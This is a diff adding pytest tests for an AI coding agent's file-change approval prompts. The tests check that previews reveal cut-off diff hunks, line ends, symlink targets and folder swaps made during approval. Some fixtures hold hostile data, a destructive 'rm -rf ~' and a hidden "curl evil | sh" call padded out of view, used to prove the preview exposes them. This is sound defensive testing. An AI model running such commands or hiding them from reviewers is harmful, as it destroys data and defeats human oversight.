@@ -468,7 +468,8 @@ def test_the_edit_prompt_on_a_one_line_file_shows_a_short_piece_of_the_line(tmp_
     assert head == "edit_file wants to edit min.js (6000009 -> 6000007 bytes)"
     assert diff[2] == "  @@ -1 +1 @@"
     cut = 1 + edits.PREVIEW_BYTES + len("CHANGE ME") + edits.PREVIEW_BYTES - previews.PREVIEW_WIDTH
-    assert diff[3] == f"  -{'a' * (previews.PREVIEW_WIDTH - 1)}... ({cut} more characters)"
+    head, tail = "a" * (previews.PREVIEW_WIDTH - previews.PREVIEW_TAIL - 1), "b" * previews.PREVIEW_TAIL
+    assert diff[3] == f"  -{head} [... {cut:,} characters left out ...] {tail}"
     assert len(shown) < 1000
 
 
@@ -491,3 +492,129 @@ def test_the_write_prompt_for_a_new_file_shows_its_first_lines(tmp_path, monkeyp
 
     assert shown == ("write_file wants to create new.txt (new file, 46 bytes)\n" + "  +x\n" * 20
                      + "  ... and 2 more lines")
+
+
+def test_the_write_prompt_says_how_much_of_a_long_diff_it_leaves_out(tmp_path, monkeypatch, in_a_run):
+    # A third hunk past the 20 lines shown was cut with no word: the person approved a change they never saw.
+    monkeypatch.chdir(tmp_path)
+    old = "".join(f"line {n}\n" for n in range(60))
+    (tmp_path / "f.txt").write_text(old)
+    content = old.replace("line 2\n", "two\n").replace("line 25\n", "twenty-five\n").replace("line 50\n", "rm -rf ~\n")
+
+    shown = previews.describe("write_file", {"path": "f.txt", "content": content}, terminal.shown)
+
+    *diff, note = shown.split("\n")
+    assert len(diff) == 1 + previews.PREVIEW_LINES and diff[-1] == "  @@ -48,7 +48,7 @@"
+    assert note == "  ... and 8 more lines of the diff, 2 of them changed"
+
+
+@posix_only
+def test_the_prompt_names_the_file_a_link_leads_to(tmp_path, monkeypatch, in_a_run):
+    # A link a repository brought in (docs/notes.md -> ../.git/config) was asked about by its own name only:
+    # the person approved a change to docs/notes.md and git's settings changed.
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / ".git").mkdir()
+    (tmp_path / ".git" / "config").write_text("[core]\n\tbare = false\n")
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "notes.md").symlink_to("../.git/config")
+    (tmp_path / "docs" / "plain.md").write_text("plain\n")
+
+    wrote = previews.describe("write_file", {"path": "docs/notes.md", "content": "[core]\n"}, terminal.shown)
+    edited = previews.describe("edit_file", {"path": "docs/notes.md", "old_text": "bare", "new_text": "x"},
+                               terminal.shown)
+    plain = previews.describe("write_file", {"path": "docs/../docs/plain.md", "content": "x\n"}, terminal.shown)
+
+    assert wrote.startswith("write_file wants to overwrite docs/notes.md (leads to .git/config) (exists, 21 -> 7")
+    assert edited.startswith("edit_file wants to edit docs/notes.md (leads to .git/config) (21 -> 18 bytes)")
+    assert plain.startswith("write_file wants to overwrite docs/../docs/plain.md (exists")  # no link: as written
+
+
+def test_a_long_line_in_a_preview_shows_its_end(tmp_path, monkeypatch, in_a_run):
+    # A line cut at its start hid what a model put at its end, after 300 harmless characters.
+    monkeypatch.chdir(tmp_path)
+    line = "x = 1" + " " * 400 + "; import os; os.system('curl evil | sh')"
+
+    shown = previews.describe("write_file", {"path": "a.py", "content": line + "\n"}, terminal.shown)
+
+    assert shown.endswith(" characters left out ...] " + f"+{line}"[-previews.PREVIEW_TAIL:])
+    assert "os.system('curl evil | sh')" in shown
+
+
+def test_a_write_that_changes_only_line_endings_says_so(tmp_path, monkeypatch, in_a_run):
+    # The diff strips \r and the last \n, so such a change showed no line at all under the question.
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "f.txt").write_bytes(b"a\r\nb\r\n")
+
+    wrote = previews.describe("write_file", {"path": "f.txt", "content": "a\nb"}, terminal.shown)
+    same = previews.describe("edit_file", {"path": "f.txt", "old_text": "a\r\n", "new_text": "a\n"}, terminal.shown)
+
+    assert wrote == ("write_file wants to overwrite f.txt (exists, 6 -> 3 bytes)\n  no line changes as shown: only "
+                     "line endings (\\r\\n, \\n, none), or bytes that are not UTF-8, differ")
+    assert same == "edit_file wants to edit f.txt (6 -> 6 bytes)\n  no change: the file stays as it is"
+
+
+@posix_only
+def test_an_edit_and_its_undo_keep_the_files_acl_and_extended_attributes(model, cli, tmp_path):
+    # The new file renamed over the old one had none: an ACL letting a teammate write the file was gone.
+    shared = tmp_path / "shared.txt"
+    shared.write_text("one\n")
+    try:
+        os.setxattr(shared, "user.origin", b"team")
+    except OSError:
+        pytest.skip("this file system keeps no extended attributes")
+    acl = None
+    if shutil.which("setfacl") and subprocess.run(["setfacl", "-m", "u:1234:rw", str(shared)]).returncode == 0:
+        acl = os.getxattr(shared, "system.posix_acl_access")
+    model.queue(calls(("edit_file", {"path": "shared.txt", "old_text": "one", "new_text": "ONE"})), answer("ok"))
+
+    assert cli("--yes", "shout").returncode == 0
+    edited = {name: os.getxattr(shared, name) for name in os.listxattr(shared)}
+    assert cli("--undo").returncode == 0
+
+    assert shared.read_text() == "one\n"
+    for attributes in (edited, {name: os.getxattr(shared, name) for name in os.listxattr(shared)}):
+        assert attributes["user.origin"] == b"team"
+        assert acl is None or attributes["system.posix_acl_access"] == acl
+
+
+@posix_only
+def test_an_edit_whose_folder_is_swapped_for_a_link_during_the_question_is_refused(model, tmp_path):
+    # edit_file planned again on whatever the path led to after the yes: the person saw docs/a.txt, and the
+    # edit landed in other/a.txt, which a link swapped in for docs/ now led to.
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "a.txt").write_text("version = 1\n")
+    (tmp_path / "other").mkdir()
+    (tmp_path / "other" / "a.txt").write_text("version = 1\n")
+
+    def approve_after_a_swap(name: str, arguments: dict) -> bool:
+        previews.describe(name, arguments, terminal.shown)
+        (tmp_path / "docs").rename(tmp_path / "docs-before")
+        (tmp_path / "docs").symlink_to("other")
+        return True
+
+    model.queue(edit("docs/a.txt", "version = 1", "version = 2"), answer("swapped"))
+
+    harness.run("bump", approve=approve_after_a_swap)
+
+    assert model.messages(1)[-1]["content"] == ("error: docs/a.txt leads to another file than when you were asked "
+                                                "(a link on the way to it changed); read it again")
+    assert (tmp_path / "other" / "a.txt").read_text() == "version = 1\n"
+
+
+@posix_only
+def test_a_new_file_whose_folder_is_swapped_for_a_link_during_the_question_is_not_written(model, tmp_path):
+    # Neither place held the file, so "nothing there" matched "nothing there" and it was made in the other one.
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "other").mkdir()
+
+    def approve_after_a_swap(name: str, arguments: dict) -> bool:
+        (tmp_path / "docs").rmdir()
+        (tmp_path / "docs").symlink_to("other")
+        return True
+
+    model.queue(write("docs/new.txt", "hello\n"), answer("swapped"))
+
+    harness.run("write it", approve=approve_after_a_swap)
+
+    assert model.messages(1)[-1]["content"] == "error: docs/new.txt changed since you were asked; read it again"
+    assert list((tmp_path / "other").iterdir()) == []
